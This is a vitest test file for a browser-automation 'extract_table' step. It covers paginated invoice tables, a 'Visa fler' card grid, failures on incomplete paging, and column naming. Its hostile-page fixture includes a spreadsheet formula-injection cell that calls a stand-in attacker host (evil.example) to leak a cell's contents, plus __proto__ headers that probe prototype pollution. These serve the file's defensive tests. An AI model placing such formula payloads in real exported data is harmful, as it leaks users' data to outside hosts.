// extract_table on local pages: a paginated table, a card grid with "Visa fler", and a hostile page (a formula
// cell, a header named __proto__, 100,000 rows against a cap of 50).
import { expect, test } from 'vitest';
import { columnNames } from './extract-table.ts';
import { useEngine } from './test/harness.ts';

const t = useEngine();

test('a table over three pages (next-page link), columns from its header; a card grid with "Visa fler" and a selector per column', async () => {
  // Three pages of four invoices; the last page's "Nästa" is disabled.
  const invoices = Array.from({ length: 10 }, (_, i) => [`F-${1001 + i}`, i % 2 ? 'Dahl' : 'Ahlsell', `${(i + 1) * 100},50`]);
  t.server.page(
    '/fakturor',
    `<table id="lista"><thead><tr><th>Nummer</th><th>Leverantör</th><th>Belopp</th></tr></thead><tbody></tbody></table>
     <button id="nasta">Nästa</button>
     <script>
       const rows = ${JSON.stringify(invoices)};
       let page = 0;
       function show() {
         document.querySelector('tbody').innerHTML = rows.slice(page * 4, page * 4 + 4).map((r) => '<tr>' + r.map((c) => '<td>' + c + '</td>').join('') + '</tr>').join('');
         document.getElementById('nasta').disabled = page * 4 + 4 >= rows.length;
       }
       document.getElementById('nasta').onclick = () => { page++; setTimeout(show, 150); };
       show();
     </script>`,
  );
  t.server.page(
    '/kort',
    `<div id="grid"></div><button id="mer">Visa fler</button>
     <script>
       let shown = 0;
       function more() {
         for (let i = 0; i < 3 && shown < 7; i++, shown++) {
           const card = document.createElement('article');
           card.innerHTML = '<h3>Hyresgäst ' + (shown + 1) + '</h3><a href="/lgh/' + (100 + shown) + '">Lägenhet</a><span class="hyra">' + (5000 + shown) + ' kr</span>';
           document.getElementById('grid').append(card);
         }
         if (shown >= 7) document.getElementById('mer').remove();
       }
       document.getElementById('mer').onclick = () => setTimeout(more, 100);
       more();
     </script>`,
  );
  const { outcome, ends, logText } = await t.run([
    { type: 'navigate', url: t.server.url('/fakturor') },
    // A step's whole time covers all its pages: under a loaded machine (the CI run of 2026-11-27) three pages passed
    // the default 10 s and the step kept the rows so far. This test is about paging, not speed.
    { type: 'extract_table', selectors: ['#lista'], variable: 'fakturor', next: ['#nasta'], timeout: 60_000 },
    { type: 'navigate', url: t.server.url('/kort') },
    {
      type: 'extract_table',
      selectors: ['#grid'],
      rowSelector: 'article',
      variable: 'hyresgaster',
      columns: [
        { name: 'Namn', selector: 'h3' },
        { name: 'Länk', selector: 'a', attribute: 'href' },
        { name: 'Hyra', selector: '.hyra' },
      ],
      next: ['text/Visa fler'],
      paging: 'more',
      timeout: 60_000,
    },
  ]);
  expect(outcome.status, `${outcome.errorMessage} ${logText}`).toBe('completed');
  expect(ends[1]!.table).toEqual({ variable: 'fakturor', columns: ['Nummer', 'Leverantör', 'Belopp'], rows: invoices, pages: 3, capped: false });
  expect(ends[1]!.extracted).toEqual({ fakturor: '10' });
  expect(ends[3]!.table).toMatchObject({ columns: ['Namn', 'Länk', 'Hyra'], pages: 3, capped: false });
  expect(ends[3]!.table!.rows).toEqual(Array.from({ length: 7 }, (_, i) => [`Hyresgäst ${i + 1}`, `/lgh/${100 + i}`, `${5000 + i} kr`]));
});

test('a hostile page: a formula cell stays text, a header named __proto__ is a column, 100,000 rows stop at the cap', async () => {
  t.server.page(
    '/fientlig',
    `<table id="t"><tr><th>__proto__</th><th>constructor</th><th></th><th>__proto__</th></tr></table>
     <button id="mer">Visa fler</button>
     <script>
       const body = document.createElement('tbody');
       body.innerHTML = '<tr><td>=HYPERLINK("http://evil.example/?x="&A1,"Klicka")</td><td>@SUM(1)</td><td>x</td><td>y</td></tr>'
         + Array.from({ length: 100000 }, (_, i) => '<tr><td>' + i + '</td></tr>').join('');
       document.getElementById('t').append(body);
       document.getElementById('mer').onclick = () => { window.clicked = true; };
     </script>`,
  );
  const { outcome, ends, page, logText } = await t.run(
    [
      { type: 'navigate', url: t.server.url('/fientlig') },
      { type: 'extract_table', selectors: ['#t'], variable: 'rader', maxRows: 50, next: ['#mer'], paging: 'more' },
    ],
    { defaultTimeoutMs: 30_000 },
  );
  expect(outcome.status, logText).toBe('completed');
  const table = ends[1]!.table!;
  expect(table.columns).toEqual(['__proto__', 'constructor', 'C', '__proto__ (2)']);
  expect(table.rows).toHaveLength(50);
  expect(table.rows[0]).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '@SUM(1)', 'x', 'y']);
  expect(table.rows[49]).toEqual(['48', '', '', '']);
  expect(table.capped).toBe(true);
  expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  expect(await page.evaluate('window.clicked ?? false')).toBe(false); // the cap was reached: nothing more was asked for
  expect(logText).toContain('its limit of 50 rows or 50 pages was reached');
});

test('a table is never passed on half-read: a next page that shows nothing new or cannot be clicked fails the step; a page limit with more pages is marked capped', async () => {
  // Three pages of two rows. ?stuck: the second "Nästa" does nothing. ?covered: after the first page an overlay
  // covers "Nästa" (a cookie banner, say), so it cannot be clicked.
  const page = (mode: string) => `<table id="t"><thead><tr><th>Nummer</th></tr></thead><tbody></tbody></table>
     <button id="nasta">Nästa</button>
     <script>
       let page = 0;
       const show = () => { document.querySelector('tbody').innerHTML = [1, 2].map((i) => '<tr><td>F-' + page + i + '</td></tr>').join(''); };
       document.getElementById('nasta').onclick = () => {
         if ('${mode}' === 'stuck' && page === 1) return;
         page++; show();
         if ('${mode}' === 'covered') document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:0;background:#fff"></div>');
       };
       show();
     </script>`;
  t.server.page('/stuck', page('stuck'));
  t.server.page('/covered', page('covered'));
  t.server.page('/pages', page('pages'));
  const steps = (path: string, extra: Record<string, unknown> = {}) => [
    { type: 'navigate' as const, url: t.server.url(path) },
    { type: 'extract_table' as const, selectors: ['#t'], variable: 'rader', next: ['#nasta'], timeout: 4_000, ...extra },
    { type: 'navigate' as const, url: t.server.url('/pages') },
  ];

  const stuck = await t.run(steps('/stuck'));
  expect(stuck.outcome.status, stuck.logText).toBe('failed');
  expect(stuck.outcome.errorType).toBe('table_incomplete');
  expect(stuck.outcome.failedIndex).toBe(1);
  expect(stuck.outcome.errorMessage).toMatch(/(before page 3 showed its rows|page 3 showed no new rows within 10 s); 4 rows from 2 pages were read and not used/);
  expect(stuck.ends[1]?.table).toBeUndefined();
  expect(stuck.starts).toHaveLength(2); // nothing after the table ran

  const covered = await t.run(steps('/covered'));
  expect(covered.outcome.errorType, covered.logText).toBe('table_incomplete');
  expect(covered.outcome.errorMessage).toMatch(/next page element could not be clicked: <div><\/div> intercepts pointer events; 4 rows from 2 pages were read and not used/);

  // Its own page limit is not a failure, but run details must say that the page had more.
  const limited = await t.run(steps('/pages', { maxPages: 2 }));
  expect(limited.outcome.status, limited.logText).toBe('completed');
  expect(limited.ends[1]!.table).toMatchObject({ rows: [['F-01'], ['F-02'], ['F-11'], ['F-12']], pages: 2, capped: true });
});

test('a column without a heading is named by its position as a spreadsheet names it, the same in every language', () => {
  expect(columnNames(['Nummer', '', '  ', 'Belopp'], 4)).toEqual(['Nummer', 'B', 'C', 'Belopp']);
  expect(columnNames(null, 28).slice(24)).toEqual(['Y', 'Z', 'AA', 'AB']);
  // A heading that is itself a letter is a name like any other: the blank column beside it is numbered, not merged.
  expect(columnNames(['B', ''], 2)).toEqual(['B', 'B (2)']);
  expect(columnNames(['', 'A'], 2)).toEqual(['A', 'A (2)']);
});
